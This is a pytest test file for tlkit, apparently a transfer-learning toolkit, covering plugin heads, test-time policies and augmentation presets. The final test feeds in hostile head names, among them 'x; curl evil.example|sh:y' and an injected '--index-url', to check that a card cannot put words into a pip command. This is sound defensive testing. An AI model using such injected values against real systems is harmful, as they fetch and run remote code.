"""Rows: heads, test-time policies and presets of installed packages, beside tlkit's own."""

from __future__ import annotations

import importlib
from dataclasses import replace

import numpy as np
import pytest
import torch
from click.testing import CliRunner
from torch import nn

import tlkit
from tlkit import artifact
from tlkit.backbone import InputSpec
from tlkit.cli import main
from tlkit.data.transforms import PRESETS, augmentation
from tlkit.errors import HeadFileError, PluginError, UnknownName
from tlkit.model.heads import HEADS, make_head
from tlkit.options import PredictOptions
from tlkit.predict.tta import POLICIES, views_of
from tlkit.report.parts import PARTS
from tlkit.tables import TABLES
from tlkit.testing import check_row
from tlkit.vetting import vet

SPEC = InputSpec(crop_px=32, resize_px=36, mean=(0.5,) * 3, std=(0.5,) * 3)
OWN = [pytest.param(row, id=name) for table in TABLES.values() for name, row in table.own.items()]

CODE = """
import torch
from tlkit import HeadKind, Policy, Preset, View
from tlkit.data.transforms import plain

class Cosine(torch.nn.Module):
    def __init__(self, width, classes):
        super().__init__()
        self.weight = torch.nn.Parameter(torch.randn(classes, width))
    def forward(self, vectors):
        unit = torch.nn.functional.normalize
        return 16 * unit(vectors) @ unit(self.weight).T

cosine = HeadKind(about="cosines", make=lambda w, c, hidden, dropout: Cosine(w, c))
linear = cosine
left = Policy(about="both ends", views=lambda spec, options: (
    View(shorter_px=spec.resize_px, right=0.0), View(shorter_px=spec.resize_px, right=1.0)))
def turned(spec, seed, jitter):
    return lambda image, number, view: plain(spec, image)[::-1] if view % 2 else plain(spec, image)
upside = Preset(about="upside down", make=turned, distinct=2)
"""


@pytest.fixture
def package(install):
    """A distribution zz-rows with a row in every table, one of them by a name that tlkit has."""
    install(
        "zz-rows", CODE, heads=["cosine", "linear"], policies=["left"], augmentations=["upside"]
    )


@pytest.mark.parametrize("row", OWN)
def test_own_rows_keep_the_laws(row):
    check_row(row)


@pytest.mark.usefixtures("package")
def test_rows_of_a_package_stand_behind_own_ones_and_keep_the_laws():
    assert list(HEADS) == [*HEADS.own, "cosine", "zz-rows:linear"]
    assert len(HEADS) == len(HEADS.own) + 2
    assert list(POLICIES) == [*POLICIES.own, "left"]
    assert list(PRESETS) == [*PRESETS.own, "upside"]
    for row in (HEADS["cosine"], POLICIES["left"], PRESETS["upside"]):
        check_row(row)


@pytest.mark.usefixtures("package")
def test_a_plain_name_that_tlkit_has_is_tlkits():
    assert HEADS["linear"] is HEADS.own["linear"]
    assert HEADS["zz-rows:linear"].about == "cosines"
    assert HEADS.full_name("linear") == "linear"
    assert HEADS.full_name("cosine") == "zz-rows:cosine"


@pytest.mark.usefixtures("package")
def test_a_fit_with_all_three_and_its_head_asks_for_the_package_elsewhere(colours, monkeypatch):
    made = tlkit.fit(
        colours, backbone="tiny", head="cosine", augment="upside", views=2, epochs=2, lr=0.01
    )
    assert made.card.plan["head"] == "zz-rows:cosine"
    photo = next(colours.glob("*/*.png"))
    (plain,) = tlkit.load(made.head).predict(photo)
    (both,) = tlkit.load(made.head).predict(photo, tta="left")
    assert plain.probabilities.shape == both.probabilities.shape == (3,)
    assert not np.array_equal(plain.probabilities, both.probabilities)
    monkeypatch.setenv("TLKIT_PLUGINS", "tlkit-tiny")
    with pytest.raises(HeadFileError, match="pip install zz-rows"):
        tlkit.load(made.head)
    with pytest.raises(UnknownName, match="linear, mlp"):
        tlkit.fit(colours, backbone="tiny", head="cosine")


def test_two_packages_with_one_name_are_told_apart(install):
    for distribution in ("zz-one", "zz-two"):
        install(distribution, CODE, heads=["cosine"])
    assert {"zz-one:cosine", "zz-two:cosine"} <= set(HEADS)
    with pytest.raises(PluginError, match="--head zz-two:cosine"):
        make_head("cosine", 4, 3, 8, 0.5)
    assert make_head("zz-one:cosine", 4, 3, 8, 0.5) is not None


@pytest.mark.parametrize(
    ("group", "line", "found"),
    [
        ("heads", "bad = 3", "is a int, not a HeadKind"),
        ("heads", "bad = HeadKind(about='', make=lambda w, c, h, d: torch.nn.Linear(w, 7))", "7"),
        ("heads", "bad = HeadKind(about='', make=lambda w, c, h, d: 1 / 0)", "ZeroDivisionError"),
        ("policies", "bad = Policy(about='', views=lambda s, o: ())", "no view"),
        ("policies", "bad = Policy(about='', views=lambda s, o: 1 / 0)", "ZeroDivisionError"),
        ("policies", "bad = Policy(about='', views=lambda s, o: (View(shorter_px=3),))", "=3"),
        ("augmentations", "bad = Preset(about='', make=lambda s, e, j: 1 / 0, distinct=1)", "Zero"),
        ("augmentations", "bad = Preset(about='', make=lambda s, e, j: (lambda i, n, v: i), "
         "distinct=None)", "(50, 40, 3)"),
        ("augmentations", "bad = Preset(about='', make=lambda s, e, j: (lambda i, n, v: 1 / 0), "
         "distinct=None)", "ZeroDivisionError"),
    ],
)  # fmt: skip
def test_a_row_that_breaks_the_contract_is_named(install, group, line, found):
    install("zz-bad", CODE + line, **{group: ["bad"]})
    image = np.zeros((50, 40, 3), np.uint8)
    use = {
        "heads": lambda: make_head("bad", 4, 3, 8, 0.5),
        "policies": lambda: views_of(PredictOptions(tta="bad"), SPEC),
        "augmentations": lambda: augmentation("bad", SPEC, 0).look(image, 0, 0),
    }[group]
    with pytest.raises(PluginError) as caught:
        use()
    assert found in caught.value.found
    assert "bad" in str(caught.value)


class Forgetful:
    """A look that depends on what was asked before."""

    def __init__(self):
        self.asked = 0

    def __call__(self, image, number, view):
        self.asked += 1
        return np.full((32, 32, 3), self.asked % 251, np.uint8)


def broken_rows():
    class Noisy(nn.Linear):
        def forward(self, vectors):
            return super().forward(vectors) + vectors.new_empty(()).normal_()

    class Hidden(nn.Linear):
        def __init__(self, width, classes):
            super().__init__(width, classes)
            self.register_buffer("drawn", torch.randn(classes), persistent=False)

        def forward(self, vectors):
            return super().forward(vectors) + self.drawn

    linear, mlp = HEADS["linear"], HEADS["mlp"]
    yield replace(linear, make=lambda w, c, h, d: nn.Linear(w, c + 1)), "logit per class"
    yield replace(linear, make=lambda w, c, h, d: Noisy(w, c)), "two answers"
    yield replace(linear, make=lambda w, c, h, d: 1 / 0), "ZeroDivisionError"
    yield replace(mlp, convex=True), "not convex"
    yield replace(linear, make=lambda w, c, h, d: nn.Linear(w, c, bias=False)), "not convex"
    yield replace(linear, convex=False, make=lambda w, c, h, d: Hidden(w, c)), "tensors say"
    yield replace(linear, uses=frozenset({"hidden"})), "uses hidden"
    yield replace(mlp, uses=frozenset({"hidden"})), "uses dropout"
    yield replace(POLICIES["none"], uses=frozenset({"crops"})), "no option"
    yield replace(POLICIES["none"], views=lambda spec, options: ()), "no view"
    yield replace(PRESETS["mirror"], distinct=3), "other views"
    yield replace(PRESETS["light"], distinct=1), "plain one"
    yield replace(PRESETS["none"], make=lambda spec, seed, jitter: Forgetful()), "twice"
    yield replace(PARTS["summary"], name="Summary"), "linked to"
    yield replace(PARTS["summary"], template="{% if %}"), "TemplateSyntaxError"
    yield "linear", "another kind"


@pytest.mark.parametrize(("row", "said"), list(broken_rows()))
def test_each_law_finds_a_row_that_breaks_it(row, said):
    with pytest.raises(PluginError, match=said):
        check_row(row)


@pytest.mark.usefixtures("package")
def test_a_row_is_vetted_in_a_process_of_its_own(install):
    install("zz-bad", CODE + "bad = HeadKind(about='', make=lambda w, c, h, d: 3)", heads=["bad"])
    assert not vet("cosine", "tlkit.heads").fault
    assert not vet("left", "tlkit.policies").fault
    assert vet("bad", "tlkit.heads").law == "check_row"


@pytest.mark.usefixtures("package")
def test_plugins_lists_rows_by_the_option_that_takes_them(install):
    install("zz-bad", "bad = 3", policies=["bad"])
    ran = CliRunner().invoke(main, ["plugins", "zz-rows", "zz-bad"])
    assert ran.exit_code == 0, ran.output
    assert "--head cosine, linear; --tta left; --augment upside" in " ".join(ran.output.split())
    assert "not a Policy" in ran.output


def test_a_head_file_asks_for_the_version_whose_code_it_was_fitted_with(install, colours, tmp_path):
    install("zz-rows", CODE, heads=["cosine"])
    made = tlkit.fit(colours, backbone="tiny", head="cosine", epochs=2)
    assert made.card.versions["zz-rows"] == "1.0"
    (metadata,) = tmp_path.glob("site/zz_rows*.dist-info/METADATA")
    metadata.write_text(metadata.read_text().replace("Version: 1.0", "Version: 2.0"))
    importlib.invalidate_caches()
    with pytest.raises(HeadFileError, match=r"zz-rows==1\.0"):
        tlkit.load(made.head)


@pytest.mark.parametrize("name", ["x; curl evil.example|sh:y", "a --index-url b:y", "\n:y"])
def test_a_card_cannot_put_words_into_a_command(colours, name):
    made = tlkit.fit(colours, backbone="tiny")
    read = artifact.read_card(made.head)
    card = replace(read, plan={**read.plan, "head": name})
    with pytest.raises(HeadFileError) as caught:
        artifact._plan(made.head, card)
    assert "pip" not in str(caught.value)
